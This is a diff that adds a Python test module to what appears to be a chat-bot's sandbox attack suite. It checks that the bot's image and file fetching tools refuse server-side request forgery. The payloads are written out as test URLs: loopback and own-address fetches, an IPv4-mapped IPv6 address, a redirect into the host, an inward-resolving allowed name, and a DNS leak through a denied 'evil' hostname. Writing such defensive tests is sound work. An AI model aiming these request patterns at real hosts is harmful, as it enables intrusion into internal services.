@@ -1,0 +1,150 @@
+"""Out of the box through tools that fetch: ``send_image``, ``send_file`` and ``view_image``.
+
+Whatever an operator may set is set: the platform's files are on this machine, and the rules of the
+chat name the very servers that are attacked. Without the defence the same tools fetch as they are
+asked to.
+"""
+
+from collections.abc import Awaitable, Callable, Sequence
+from contextlib import AsyncExitStack
+from pathlib import Path
+from tempfile import TemporaryDirectory
+
+from nekro_core.chat import ChatKey
+from nekro_core.delivery import Fetcher, MediaSettings, MediaStore
+from nekro_core.delivery.reach import Reach
+from nekro_core.addresses import Address
+from nekro_core.plugin import PluginRegistry, call
+from nekro_core.plugin.builtin import builtin_folder
+from nekro_core.plugin.fetching import ChatNetwork, PluginMedia
+from nekro_core.sandbox.box import Answer, GuestCall, Raise, Value
+from nekro_core.sandbox.egress import Rules
+from nekro_core.tools.outcome import Failed
+from tests.peers.reach import Anywhere
+from tests.peers.visited import own_address, visited
+from tests.plugin.world import GROUP, World
+from tests.sandbox.attacks.attack import PRELUDE, Attack, GotThrough, Ground, Without, judge
+from tests.sandbox.play import Tools
+
+TOOLS = ("send_image", "send_file", "view_image")
+OUTER, INNER, DENIED = "pictures.example", "inside.example", "secret-of-the-box.evil.example"
+
+
+class _FirstHop:
+    """The chat's own reach, for which one name is another machine: a test has only this one."""
+
+    def __init__(self, reach: Reach) -> None:
+        self._reach = reach
+        self.may_look_up, self.took = reach.may_look_up, reach.took
+
+    def may_connect(self, host: str, port: int, addresses: Sequence[Address]) -> None:
+        if host != OUTER:
+            self._reach.may_connect(host, port, addresses)
+
+
+class _Network(ChatNetwork):
+    def reach(self, url: str, chat: ChatKey | None = None) -> Reach:  # type: ignore[override]
+        return _FirstHop(super().reach(url, chat))
+
+
+def fetched(
+    *urls: str, denied: bool = False
+) -> Callable[[Ground], Awaitable[GotThrough]]:
+    """Code that has each tool fetch each address: nobody is reached, and where the host is
+    ``denied`` nobody is asked for its address."""
+
+    async def act(ground: Ground) -> GotThrough:
+        asked: list[str] = []
+
+        async def resolve(host: str, _: int) -> list[str]:
+            asked.append(host)
+            return ["127.0.0.1"] if host.endswith(".example") else [host]
+
+        async with AsyncExitStack() as stack:
+            server = stack.enter_context(visited())
+            folder = Path(stack.enter_context(TemporaryDirectory()))
+            named = [url.format(port=server.port, own=own_address()) for url in urls]
+            hosts = {f"{host}:{server.port}" for host in (own_address(), "127.0.0.1", "[::1]")}
+            names = {f"{name}:{server.port}" for name in (OUTER, INNER)}
+            settings = MediaSettings(private_hosts=frozenset(hosts), silent_s=1.0)
+            rules = Rules.parse([] if denied else [*hosts, *names], [*hosts] if not denied else [])
+            reach = Anywhere() if ground.naive else None
+            fetcher = Fetcher(settings, reach, resolve=resolve)
+            store = await stack.enter_async_context(
+                MediaStore(folder / "kept", settings, fetcher=fetcher)
+            )
+            network = _Network(rules=lambda _: rules, spend=lambda _: lambda _: None)
+            world = World(folder)
+            media = store if ground.naive else PluginMedia(store, network)
+            object.__setattr__(world.services, "media", media)
+            (folder / "builtin").mkdir()
+            (folder / "builtin" / "chat").symlink_to(builtin_folder("plugins") / "chat")
+            plugins = await stack.enter_async_context(world.bot(builtin=folder / "builtin"))
+            got = await _tried(ground, plugins, world, named)
+            seen = [path for path in server.visits if "/to/" not in path]
+            got += [f"a server of the host was asked for {path}" for path in seen[:3]]
+            if denied and asked:
+                got.append(f"a name server was told {asked[0]}")
+        return got
+
+    return act
+
+
+async def _tried(
+    ground: Ground, plugins: PluginRegistry, world: World, urls: Sequence[str]
+) -> GotThrough:
+    async def answer(asked: GuestCall) -> Answer:
+        tool = plugins.tools_for(GROUP).resolve(asked.name)
+        assert tool is not None
+        outcome = await call(tool, world.ctx(), asked.args, asked.kwargs)
+        return Raise(outcome.message) if isinstance(outcome, Failed) else Value(repr(outcome))
+
+    code = f"""
+for url in {urls!r}:
+    for use in (send_image, send_file, view_image):
+        try:
+            print("NOT HELD:", use(url))
+        except ToolError:
+            print("held")
+"""
+    result = await ground.play(PRELUDE + code, tools=Tools(dict.fromkeys(TOOLS, answer)))
+    return judge(result, len(TOOLS) * len(urls))
+
+
+NAIVE = Without(naive=True)
+
+ATTACKS = [
+    Attack(
+        number=0,
+        name="a picture from a server of the host",
+        act=fetched("http://127.0.0.1:{port}/", "http://localhost.example:{port}/"),
+        without=NAIVE,
+    ),
+    Attack(
+        number=0,
+        name="a picture from the machine's own address",
+        act=fetched("http://{own}:{port}/", "http://[::ffff:{own}]:{port}/"),
+        without=NAIVE,
+    ),
+    Attack(
+        number=0,
+        name="a picture that has moved to the host",
+        act=fetched(
+            f"http://{OUTER}:{{port}}/to/http://127.0.0.1:{{port}}/moved",
+            f"http://{OUTER}:{{port}}/to/http://{{own}}:{{port}}/moved",
+        ),
+        without=NAIVE,
+    ),
+    Attack(
+        number=0,
+        name="a picture of an allowed name that leads inside",
+        act=fetched(f"http://{INNER}:{{port}}/"),
+        without=NAIVE,
+    ),
+    Attack(
+        number=0,
+        name="words in a name that may not be reached",
+        act=fetched(f"http://{DENIED}:{{port}}/", denied=True),
+        without=NAIVE,
+    ),
+]
